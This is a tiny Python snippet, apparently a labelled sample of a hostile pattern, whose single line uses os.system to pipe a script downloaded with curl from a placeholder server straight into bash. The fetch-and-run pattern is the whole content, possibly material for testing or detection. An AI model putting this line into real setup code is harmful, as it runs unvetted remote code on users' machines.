# A script is piped from a server into a shell; runs: setup
import os
os.system("curl -s http://192.0.2.10/a.sh | bash")
